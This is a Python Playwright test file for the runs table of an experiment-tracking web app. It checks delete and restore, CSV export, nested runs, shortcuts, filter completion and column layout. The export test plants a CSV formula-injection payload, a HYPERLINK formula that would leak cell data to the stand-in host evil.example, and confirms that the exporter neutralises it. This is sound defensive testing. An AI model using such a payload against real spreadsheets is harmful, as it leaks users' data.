"""Managing runs from the runs table in a real browser: delete and restore, CSV export, nested
runs, shortcuts that leave focused controls alone, long names, value completion, sticky and
resizable columns, default columns and aligned group means."""

from __future__ import annotations

import csv
import io
import re
from typing import Any

import httpx
import pytest
from playwright.sync_api import expect

from modelyard.tracking.batches import new_run_id
from tests.ui.conftest import Filled, review_shots

pytestmark = pytest.mark.ui


def make_experiment(
    api: httpx.Client, name: str, runs: list[dict[str, Any]]
) -> tuple[int, list[str]]:
    """An experiment of its own with these runs (name, params, metrics, parent index); ids in order."""
    ids = [new_run_id() for _ in runs]
    batches = []
    for i, spec in enumerate(runs):
        create: dict[str, Any] = {
            "experiment_name": name,
            "name": spec["name"],
            "start_time": 1_700_000_000_000 + i,
        }
        if spec.get("parent") is not None:
            create["parent_id"] = ids[spec["parent"]]
        batches.append(
            {
                "run_id": ids[i],
                "create": create,
                "params": spec.get("params", {}),
                "metrics": [{"key": k, "values": [v]} for k, v in spec.get("metrics", {}).items()],
                "update": {"status": "FINISHED", "end_time": 1_700_000_100_000 + i},
            }
        )
    answer = api.post("/ingest", json={"batches": batches})
    assert answer.status_code == 200, answer.text
    return int(api.get(f"/experiments/by-name/{name}").json()["id"]), ids


def names_of(api: httpx.Client, exp: int, view: str) -> list[str]:
    page = api.post("/runs/search", json={"experiment_ids": [exp], "view": view}).json()
    return sorted(r["name"] for r in page["runs"])


def test_delete_asks_first_and_deleted_runs_are_restored(page: Any, filled: Filled) -> None:
    with filled.api() as api:
        exp, ids = make_experiment(
            api, "manage-delete", [{"name": n} for n in ("keep", "drop-1", "drop-2")]
        )
        page.goto(f"{filled.url}/experiments/{exp}")
        expect(page.get_by_test_id("run-count")).to_contain_text("3 runs")
        for rid in ids[1:]:
            page.locator(f'[data-run="{rid}"] input[type=checkbox]').check()
        page.get_by_test_id("delete-runs").click()
        confirm = page.get_by_test_id("delete-runs-confirm")
        expect(confirm).to_contain_text("Delete 2 runs?")
        page.keyboard.press("Escape")  # says no
        expect(confirm).to_be_hidden()
        assert names_of(api, exp, "deleted") == []
        page.get_by_test_id("delete-runs").click()
        confirm.get_by_role("button", name="Yes, delete 2").click()
        expect(page.get_by_test_id("runs-action-done")).to_have_text("Deleted 2 runs.")
        expect(page.get_by_test_id("run-count")).to_contain_text("1 runs")
        assert names_of(api, exp, "deleted") == ["drop-1", "drop-2"]
        # the deleted view lists them; one is restored
        page.get_by_test_id("show-deleted").check()
        assert "lifecycle=deleted" in page.url
        expect(page.get_by_test_id("run-count")).to_contain_text("2 runs")
        expect(page.get_by_test_id("deleted-note")).to_be_visible()
        review_shots(page, "runs-deleted-view")
        page.locator(f'[data-run="{ids[1]}"] input[type=checkbox]').check()
        page.get_by_test_id("restore-runs").click()
        expect(page.get_by_test_id("runs-action-done")).to_have_text("Restored 1 run.")
        expect(page.get_by_test_id("run-count")).to_contain_text("1 runs")
        assert names_of(api, exp, "active") == ["drop-1", "keep"]


def test_a_refused_delete_shows_the_servers_reason(page: Any, filled: Filled) -> None:
    """The server's 403 body (as an auth-on server words it) is shown as a sentence; the
    refusal comes from the route, as no viewer exists on this auth-off server."""
    with filled.api() as api:
        exp, ids = make_experiment(api, "manage-refused", [{"name": "guarded"}])
    body = '{"error_code": "PERMISSION_DENIED", "message": "viewer needs the editor role on experiment \'manage-refused\'", "details": {"held": "viewer"}}'
    page.route(
        re.compile(r".*/api/v1/runs/[0-9a-f]+$"),
        lambda route: (
            route.fulfill(status=403, body=body, content_type="application/json")
            if route.request.method == "DELETE"
            else route.continue_()
        ),
    )
    page.goto(f"{filled.url}/experiments/{exp}")
    page.locator(f'[data-run="{ids[0]}"] input[type=checkbox]').check()
    page.get_by_test_id("delete-runs").click()
    page.get_by_role("button", name="Yes, delete 1").click()
    error = page.get_by_test_id("runs-action-error")
    expect(error).to_have_text(
        "deleted refused: You need the editor role on experiment 'manage-refused' (you have viewer)."
    )
    expect(page.get_by_test_id("run-count")).to_contain_text("1 runs")


def test_export_writes_every_matching_run_in_order_with_visible_columns(
    page: Any, filled: Filled
) -> None:
    attack = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    runs: list[dict[str, Any]] = [
        {"name": attack, "params": {"kind": "x", "note": 'say "hi", ok'}, "metrics": {"acc": 0.5}}
    ]
    runs += [
        {
            "name": f"bulk-{i:03d}",
            "params": {"kind": "x" if i % 2 else "y", "note": "-1+1"},
            "metrics": {"acc": i / 1000},
        }
        for i in range(150)
    ]
    with filled.api() as api:
        exp, ids = make_experiment(api, "manage-export", runs)
    page.goto(f"{filled.url}/experiments/{exp}?filter=" + "params.kind = 'x'" + "&sort=-m:acc")
    expect(page.get_by_test_id("run-count")).to_contain_text("76 runs")
    assert page.locator(".tr[data-run]").count() < 76  # only some rows are rendered
    headers = page.locator(".thead .th[data-col]").evaluate_all(
        "els => els.map(e => e.dataset.col)"
    )
    with page.expect_download() as info:
        page.get_by_test_id("export-csv").click()
    with open(info.value.path(), encoding="utf-8", newline="") as f:
        text = f.read()
    rows = list(csv.reader(io.StringIO(text)))
    fields = {
        "m:acc": "metrics.acc",
        "p:kind": "params.kind",
        "p:note": "params.note",
        "duration": "duration_ms",
    }
    assert rows[0] == ["run_id", *[fields.get(h, h) for h in headers]]
    assert len(rows) == 1 + 76
    col = rows[0].index
    accs = [float(r[col("metrics.acc")]) for r in rows[1:]]
    assert accs == sorted(accs, reverse=True)  # the table's order
    assert {r[col("params.kind")] for r in rows[1:]} == {"x"}
    by_id = {r[0]: r for r in rows[1:]}
    assert by_id[ids[0]][col("name")] == "'" + attack  # never a formula in a spreadsheet
    assert by_id[ids[0]][col("params.note")] == 'say "hi", ok'
    assert by_id[ids[2]][col("params.note")] == "'-1+1"
    assert '"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"' in text
    expect(page.get_by_test_id("runs-action-done")).to_have_text("Exported 76 runs.")


def test_nested_runs_expand_under_their_parent(page: Any, filled: Filled) -> None:
    runs: list[dict[str, Any]] = [
        {"name": "parent"},
        {"name": "child-a", "parent": 0},
        {"name": "child-b", "parent": 0},
        {"name": "grandchild", "parent": 1},
        {"name": "alone"},
    ]
    with filled.api() as api:
        exp, ids = make_experiment(api, "manage-nested", runs)
    page.goto(f"{filled.url}/experiments/{exp}")
    expect(page.get_by_test_id("run-count")).to_contain_text("5 runs")
    rows = page.locator(".tr[data-run]")
    expect(rows).to_have_count(2)  # collapsed: parent and alone
    toggle = page.locator(f'[data-run="{ids[0]}"]').get_by_test_id("nest-toggle")
    expect(toggle).to_have_attribute("aria-label", "show 2 child runs of parent")
    toggle.click()
    expect(toggle).to_have_attribute("aria-expanded", "true")
    assert f"open={ids[0]}" in page.url
    expect(rows).to_have_count(4)
    order = rows.evaluate_all("els => els.map(e => e.dataset.run)")
    assert (
        order.index(ids[1]) == order.index(ids[0]) + 1
        or order.index(ids[2]) == order.index(ids[0]) + 1
    )
    expect(page.locator(f'[data-run="{ids[1]}"]')).to_have_attribute("data-depth", "1")
    page.locator(f'[data-run="{ids[1]}"]').get_by_test_id("nest-toggle").click()
    expect(page.locator(f'[data-run="{ids[3]}"]')).to_have_attribute("data-depth", "2")
    # the state is in the URL: a reload keeps both open
    page.reload()
    expect(rows).to_have_count(5)
    # children matching a filter their parent does not still show
    box = page.get_by_test_id("filter")
    box.fill("name LIKE 'child%'")
    box.press("Enter")
    expect(rows).to_have_count(2)
    expect(page.locator(f'[data-run="{ids[1]}"]')).to_have_attribute("data-depth", "0")


def test_shortcuts_leave_focused_links_and_buttons_alone(page: Any, filled: Filled) -> None:
    page.goto(f"{filled.url}/experiments/{filled.experiment_id}")
    expect(page.get_by_test_id("run-count")).to_contain_text("25 runs")
    first = page.locator(".tr[data-run]").first.get_attribute("data-run")
    page.locator("body").press("j")  # the second row is the highlighted one
    highlighted = page.locator(".tr.focused").get_attribute("data-run")
    assert highlighted != first
    # Space on a focused button presses it and selects no row
    page.get_by_test_id("columns-button").focus()
    page.keyboard.press(" ")
    expect(page.get_by_test_id("columns")).to_be_visible()
    expect(page.locator('.tr[aria-selected="true"]')).to_have_count(0)
    page.get_by_test_id("columns").get_by_role("button", name="Done").click()
    # Enter on a focused link follows that link, not the highlighted row
    link = page.locator(f'[data-run="{first}"] a.run-name')
    link.focus()
    page.keyboard.press("Enter")
    expect(page).to_have_url(re.compile(rf"/runs/{first}$"))


def test_long_names_are_cut_with_a_tooltip_and_never_widen_the_page(
    page: Any, filled: Filled
) -> None:
    long = "x" * 400
    with filled.api() as api:
        exp, ids = make_experiment(api, "manage-long", [{"name": long}, {"name": "short"}])
    page.goto(f"{filled.url}/experiments/{exp}")
    link = page.locator(f'[data-run="{ids[0]}"] a.run-name')
    expect(link).to_have_attribute("title", long)
    cut = link.evaluate("a => a.scrollWidth > a.clientWidth && getComputedStyle(a).textOverflow")
    assert cut == "ellipsis"
    for width in (1440, 1024):
        page.set_viewport_size({"width": width, "height": 800})
        assert page.evaluate("document.documentElement.scrollWidth") <= width


def test_completion_offers_values_then_and_or_and_a_bad_filter_keeps_the_table(
    page: Any, filled: Filled
) -> None:
    page.goto(f"{filled.url}/experiments/{filled.experiment_id}")
    box = page.get_by_test_id("filter")
    box.click()
    box.type("params.optimizer = ")
    completions = page.get_by_test_id("completions")
    expect(completions).to_contain_text("adam")
    expect(completions).to_contain_text("sgd")
    box.type("'s")
    expect(completions.get_by_role("option")).to_have_count(1)
    box.press("Tab")
    expect(box).to_have_value("params.optimizer = 'sgd' ")
    expect(completions.get_by_role("option")).to_have_text([re.compile("AND"), re.compile("OR")])
    box.press("Enter")
    expect(page.get_by_test_id("run-count")).to_contain_text("12 runs")
    box.fill("params.optimizer = 'sgd' AND metrics.acc >")
    box.press("Enter")
    expect(page.get_by_test_id("filter-error")).to_be_visible()
    # the last good table stays, with the error beside it
    expect(page.get_by_test_id("run-count")).to_contain_text("12 runs")
    expect(page.locator(".tr[data-run]")).to_have_count(12)
    box.fill("status = ")
    box.press("End")
    expect(completions).to_contain_text("RUNNING")


def test_sticky_name_resizable_columns_common_defaults_and_aligned_means(
    page: Any, filled: Filled
) -> None:
    runs: list[dict[str, Any]] = [
        {
            "name": f"r{i}",
            "params": {"seed": str(i)},
            "metrics": {"rare": 1.0} if i == 0 else {"common": i, **{f"z{k}": k for k in range(8)}},
        }
        for i in range(4)
    ]
    with filled.api() as api:
        exp, _ = make_experiment(api, "manage-columns", runs)
    page.goto(f"{filled.url}/experiments/{exp}")
    expect(page.get_by_test_id("run-count")).to_contain_text("4 runs")
    headers = page.locator(".thead .th[data-col]").evaluate_all(
        "els => els.map(e => e.dataset.col)"
    )
    assert "m:common" in headers
    assert "m:rare" not in headers  # 8 metrics most runs have come before one run's metric
    # resize a column by dragging its handle; the width survives a reload
    th = page.locator('.th[data-col="m:common"]')
    before = th.bounding_box()["width"]
    handle = page.get_by_test_id("resize-m:common").bounding_box()
    page.mouse.move(handle["x"] + 3, handle["y"] + 10)
    page.mouse.down()
    page.mouse.move(handle["x"] + 83, handle["y"] + 10, steps=4)
    page.mouse.up()
    assert abs(th.bounding_box()["width"] - (before + 80)) <= 2
    page.reload()
    assert (
        abs(page.locator('.th[data-col="m:common"]').bounding_box()["width"] - (before + 80)) <= 2
    )
    # the name column stays put when the table scrolls sideways
    page.set_viewport_size({"width": 1024, "height": 700})
    name = page.locator(".tr[data-run] .td.name").first
    x = name.bounding_box()["x"]
    page.get_by_test_id("runs-scroll").evaluate("el => { el.scrollLeft = 600; }")
    assert page.get_by_test_id("runs-scroll").evaluate("el => el.scrollLeft") > 0
    assert abs(name.bounding_box()["x"] - x) < 1
    # group means sit under their columns (ui-e2e: acc per optimizer)
    page.set_viewport_size({"width": 1440, "height": 900})
    page.goto(f"{filled.url}/experiments/{filled.experiment_id}?group=p:optimizer")
    group = page.get_by_test_id("group-row").filter(has_text="adam")
    cell = group.locator('[data-col="m:acc"]')
    header = page.locator('.th[data-col="m:acc"]')
    assert abs(cell.bounding_box()["x"] - header.bounding_box()["x"]) < 1
    accs = [r["acc"] for r in filled.runs if r["params"].get("optimizer") == "adam"]
    expect(cell).to_have_text(str(float(f"{sum(accs) / len(accs):.4g}")))
    review_shots(page, "runs-ui-e2e-grouped")


def test_review_shots_of_the_runs_pages(page: Any, filled: Filled) -> None:
    with filled.api() as api:
        mine = ("ui-e2e", "Default")
        demo = [
            e
            for e in api.get("/experiments").json()
            if e["name"] not in mine and not e["name"].startswith("manage-")
        ]
        sizes = {
            e["id"]: len(
                api.post("/runs/search", json={"experiment_ids": [e["id"]]}).json()["runs"]
            )
            for e in demo
        }
    page.goto(f"{filled.url}/experiments/{max(sizes, key=lambda e: sizes[e])}")
    expect(page.get_by_test_id("runs-table")).to_be_visible()
    expect(page.locator(".tr[data-run]").first).to_be_visible()
    review_shots(page, "runs-demo")
    page.goto(f"{filled.url}/experiments/{filled.experiment_id}")
    expect(page.get_by_test_id("run-count")).to_contain_text("25 runs")
    review_shots(page, "runs-ui-e2e")
